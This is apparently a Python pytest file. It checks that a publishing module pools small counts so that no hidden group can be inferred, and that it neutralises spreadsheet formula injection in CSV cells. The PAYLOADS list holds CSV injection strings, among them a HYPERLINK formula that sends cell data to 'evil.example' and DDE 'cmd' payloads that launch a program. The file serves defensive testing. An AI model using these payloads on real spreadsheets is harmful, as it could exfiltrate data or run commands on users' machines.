"""Small cells are pooled so no hidden group can be worked out; CSV cells never run."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vigil.publish import ALL, OTHER, csv_text, safe_cell, suppress

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",  # full-width equals sign
    "＋1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_written_as_text(payload: str) -> None:
    cell = safe_cell(payload)
    assert cell.startswith("'")
    rows = list(csv.reader(io.StringIO(csv_text(["name"], [[payload]]))))
    assert rows[1] == [cell]


@pytest.mark.parametrize("plain", ["Volha Krumenka", "1984", "342, 130", "name withheld", ""])
def test_plain_text_is_unchanged(plain: str) -> None:
    assert safe_cell(plain) == plain


def test_small_cells_are_pooled_without_labels() -> None:
    cells = suppress([("Minsk", 40), ("Homiel", 1), ("Brest", 3), ("Hrodna", 12)], 5)
    assert [(c.key, c.count) for c in cells] == [("Minsk", 40), (OTHER, 16)]
    assert cells[-1].pooled == 3  # the smallest shown row joined the pool of 4


def test_a_pool_of_enough_stays_alone() -> None:
    cells = suppress([("Minsk", 40), ("Homiel", 3), ("Brest", 3)], 5)
    assert [(c.key, c.count, c.pooled) for c in cells] == [("Minsk", 40, 0), (OTHER, 6, 2)]


def test_a_tiny_table_shows_less_than() -> None:
    cells = suppress([("female", 2), ("male", 1)], 5)
    assert [(c.key, c.count, c.text) for c in cells] == [(ALL, None, "<5")]


def test_two_groups_with_one_small_show_only_the_total() -> None:
    # 40 women and 3 men: showing "female 40" beside a total of 43 would give the men.
    assert [(c.key, c.count) for c in suppress([("female", 40), ("male", 3)], 5)] == [(ALL, 43)]


@given(st.dictionaries(st.text(min_size=1, max_size=5), st.integers(0, 30), max_size=12),
       st.integers(2, 10))  # fmt: skip
def test_no_hidden_group_can_be_worked_out(groups: dict[str, int], min_cell: int) -> None:
    cells = suppress(sorted(groups.items()), min_cell)
    shown = {c.key for c in cells if c.key not in (OTHER, ALL)}
    total = sum(groups.values())
    assert all(groups[k] >= min_cell for k in shown)  # no small cell under its label
    pool = [c for c in cells if c.key in (OTHER, ALL)]
    if pool and total >= min_cell:
        # the pool is no small cell itself, and holds two groups or more
        assert (pool[0].count or 0) >= min_cell
        assert pool[0].pooled >= 2
    # nothing is lost: the published cells add up to the total
    assert sum(c.count or 0 for c in cells) == (total if total >= min_cell or not pool else 0)
